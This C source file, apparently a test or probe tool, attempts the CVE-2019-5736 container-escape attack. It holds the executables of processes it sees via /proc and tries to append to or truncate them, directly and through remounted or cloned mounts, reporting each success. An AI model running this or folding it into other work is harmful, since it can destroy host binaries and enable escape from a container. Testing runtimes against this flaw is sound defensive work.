/* exegrab SECONDS: the attack of CVE-2019-5736, from inside a container. Holds the executable of
 * every process that it sees, and tries to write to it as long as it runs: as it is, and through
 * mounts that it makes writable, if it may. Prints "saw TARGET" for each executable that is not its
 * own or busybox, and "WROTE TARGET" if a write succeeded. */
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 64

static struct held {
	int fd;
	dev_t dev;
	ino_t ino;
	char target[256];
} held[HELD_MAX];
static size_t held_count;

static void hold(const char *pid)
{
	char link[300], target[256];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(link, sizeof link, "/proc/%s/exe", pid);
	n = readlink(link, target, sizeof target - 1);
	if (n <= 0)
		return;
	target[n] = 0;
	if (strstr(target, "busybox") || strstr(target, "exegrab"))
		return;
	fd = open(link, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* It may have executed another program meanwhile: what was opened counts. */
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	n = readlink(link, target, sizeof target - 1);
	target[n > 0 ? n : 0] = 0;
	if (strstr(target, "busybox") || strstr(target, "exegrab")) {
		close(fd);
		return;
	}
	if (fstat(fd, &st) < 0)
		err(1, "fstat");
	for (size_t i = 0; i < held_count; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	if (held_count == HELD_MAX)
		errx(1, "too many executables");
	held[held_count] = (struct held){fd, st.st_dev, st.st_ino, ""};
	strcpy(held[held_count++].target, target);
	printf("saw %s\n", target);
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *de;

	if (!d)
		err(1, "/proc");
	while ((de = readdir(d)))
		if (de->d_name[0] >= '1' && de->d_name[0] <= '9')
			hold(de->d_name);
	closedir(d);
}

static void try_write(int held_fd, const char *target)
{
	char link[64];
	int fd;

	snprintf(link, sizeof link, "/proc/self/fd/%d", held_fd);
	fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "#", 1) == 1 || ftruncate(fd, 0) == 0)
		printf("WROTE %s\n", target);
	close(fd);
}

static void attack(struct held *h)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	char link[64];
	int clone;

	snprintf(link, sizeof link, "/proc/self/fd/%d", h->fd);
	try_write(h->fd, h->target);
	mount_setattr(h->fd, "", AT_EMPTY_PATH, &writable, sizeof writable);
	mount("none", link, NULL, MS_REMOUNT | MS_BIND, NULL);
	try_write(h->fd, h->target);
	clone = open_tree(h->fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (clone >= 0) {
		mount_setattr(clone, "", AT_EMPTY_PATH, &writable, sizeof writable);
		try_write(clone, h->target);
		close(clone);
	}
	if (mount(link, "/mnt", NULL, MS_BIND, NULL) == 0) { /* a file, from image or test */
		mount("none", "/mnt", NULL, MS_REMOUNT | MS_BIND, NULL);
		clone = open("/mnt", O_PATH | O_CLOEXEC);
		try_write(clone, h->target);
		close(clone);
		umount2("/mnt", MNT_DETACH);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2)
		errx(2, "usage: exegrab SECONDS");
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end;) {
		scan();
		for (size_t i = 0; i < held_count; i++)
			attack(&held[i]);
	}
	puts("done");
	return 0;
}
